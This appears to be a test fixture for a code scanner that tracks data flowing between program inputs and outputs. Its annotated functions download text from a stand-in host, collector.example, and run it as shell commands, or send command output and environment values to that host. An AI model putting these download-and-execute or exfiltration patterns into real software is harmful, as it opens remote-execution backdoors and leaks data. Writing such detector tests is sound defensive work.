"""Starting other programs, what they are given and what they print."""
import asyncio
import commands
import os
import pty
import shlex
import subprocess

import pexpect
import requests
import win32api
import win32process

U = "https://collector.example/u"


def run_command():
    subprocess.run(["sh", "-c", requests.get(U).text])  #~ source(NETWORK) f1, sink(exec.command) f1, finding(traced) f1, capability(EXEC)


def run_output():
    done = subprocess.run(["id"], capture_output=True)  #~ source(COMMAND_OUTPUT) f2
    requests.post(U, data=done.stdout)  #~ sink(egress.http) f2, finding(traced) f2


def run_code():
    done = subprocess.run(["id"], capture_output=True)
    requests.post(U, data={"code": done.returncode})  #~ ok
    subprocess.run(["id"])  #~ ok


def output_of_command():
    text = subprocess.check_output("id")  #~ source(COMMAND_OUTPUT) f4, capability(EXEC)
    requests.post(U, data=text)  #~ sink(egress.http) f4, finding(traced) f4


def output_of_given_command():
    subprocess.check_output(requests.get(U).text, shell=True)  #~ source(NETWORK) f5, sink(exec.command) f5, finding(traced) f5


def output_compared():
    requests.post(U, data={"root": subprocess.check_output("id") == b"0"})  #~ ok


def started():
    subprocess.Popen(requests.get(U).text, shell=True)  #~ source(NETWORK) f7, sink(exec.command) f7, finding(traced) f7, capability(EXEC)


def started_output():
    process = subprocess.Popen(["id"], stdout=subprocess.PIPE)  #~ source(COMMAND_OUTPUT) f8
    requests.post(U, data=process.stdout.read())  #~ sink(egress.http) f8, finding(traced) f8


def communicated():
    process = subprocess.Popen(["id"], stdout=subprocess.PIPE)  #~ source(COMMAND_OUTPUT) f9
    out, err = process.communicate()
    requests.post(U, data=out)  #~ sink(egress.http) f9, finding(traced) f9


def fed():
    process = subprocess.Popen(["sh"], stdin=subprocess.PIPE)
    process.communicate(requests.get(U).text)  #~ source(NETWORK) f10, sink(exec.command) f10, finding(traced) f10


def typed_into():
    process = subprocess.Popen(["sh"], stdin=subprocess.PIPE)
    process.stdin.write(requests.get(U).content)  #~ source(NETWORK) f11, sink(exec.command) f11, finding(traced) f11


def untyped(process):
    process.stdout = os.getenv("T")  #~ source(ENVIRONMENT) f12
    requests.post(U, data=process.communicate()[0])  #~ sink(egress.http) f12, finding(traced) f12


def waited():
    process = subprocess.Popen(["sh"], stdin=subprocess.PIPE)  #~ ok
    process.communicate("exit")  #~ ok
    process.stdin.write(b"exit")  #~ ok
    process.stdout = os.getenv("T")
    requests.post(U, data={"code": process.wait()})  #~ ok


async def async_exec():
    await asyncio.create_subprocess_exec("sh", "-c", requests.get(U).text)  #~ source(NETWORK) f14, sink(exec.command) f14, finding(traced) f14, capability(EXEC)


async def async_exec_output():
    process = await asyncio.create_subprocess_exec("id")  #~ source(COMMAND_OUTPUT) f15
    out, err = await process.communicate()
    requests.post(U, data=out)  #~ sink(egress.http) f15, finding(traced) f15


async def async_shell():
    await asyncio.create_subprocess_shell(requests.get(U).text)  #~ source(NETWORK) f16, sink(exec.command) f16, finding(traced) f16, capability(EXEC)


async def async_constant():
    await asyncio.create_subprocess_exec("true")  #~ ok
    await asyncio.create_subprocess_shell("true")  #~ ok


def terminal():
    pty.spawn(requests.get(U).text)  #~ source(NETWORK) f18, sink(exec.command) f18, finding(traced) f18, capability(EXEC)


def old_output():
    requests.post(U, data=commands.getoutput("id"))  #~ source(COMMAND_OUTPUT) f19, sink(egress.http) f19, finding(traced) f19, capability(EXEC), capability(NETWORK)


def expect_output():
    requests.post(U, data=pexpect.run("id"))  #~ source(COMMAND_OUTPUT) f20, sink(egress.http) f20, finding(traced) f20


def expect_command():
    pexpect.spawn(requests.get(U).text)  #~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21, capability(EXEC)


def expect_typed():
    child = pexpect.spawn("sh")
    child.sendline(requests.get(U).text)  #~ source(NETWORK) f22, sink(exec.command) f22, finding(traced) f22


def constant_commands():
    pty.spawn("/bin/sh")  #~ ok
    requests.post(U, data={"root": commands.getoutput("id") == "0"})  #~ ok
    requests.post(U, data={"root": pexpect.run("id") == b"0"})  #~ ok
    child = pexpect.spawn("sh")  #~ ok
    child.sendline("exit")  #~ ok


def words():
    args = shlex.split(os.getenv("T"))  #~ source(ENVIRONMENT) f24
    requests.post(U, data=args)  #~ sink(egress.http) f24, finding(traced) f24


def line():
    text = subprocess.list2cmdline([os.getenv("T")])  #~ source(ENVIRONMENT) f25
    requests.post(U, data=text)  #~ sink(egress.http) f25, finding(traced) f25


def constant_words():
    requests.post(U, data=shlex.split("a b"))  #~ ok
    requests.post(U, data=subprocess.list2cmdline(["a"]))  #~ ok


def windows_shell():
    win32api.ShellExecute(0, "open", requests.get(U).text, None, None, 0)  #~ source(NETWORK) f27, sink(exec.command) f27, finding(traced) f27, capability(EXEC)


def windows_process():
    win32process.CreateProcess(None, requests.get(U).text, None, None, 0, 0, None, None, None)  #~ source(NETWORK) f28, sink(exec.command) f28, finding(traced) f28


def windows_constants():
    win32api.ShellExecute(0, "open", "notepad.exe", None, None, 0)  #~ ok
    win32process.CreateProcess(None, "notepad.exe", None, None, 0, 0, None, None, None)  #~ ok
